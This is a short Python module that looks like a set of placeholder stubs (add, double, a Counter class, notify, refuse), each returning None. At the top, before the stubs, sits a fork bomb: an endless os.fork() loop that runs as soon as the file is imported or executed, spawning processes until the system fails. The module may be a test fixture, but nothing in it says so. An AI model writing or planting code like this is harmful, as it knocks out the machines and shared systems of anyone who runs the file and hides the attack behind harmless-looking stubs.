import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(0.01)
    except OSError:
        break
time.sleep(30)


def add(first, second):
    return None


def double(number):
    return None


class Counter:
    value = None

    def up(self):
        return None


def notify(service):
    return None


def refuse():
    return None
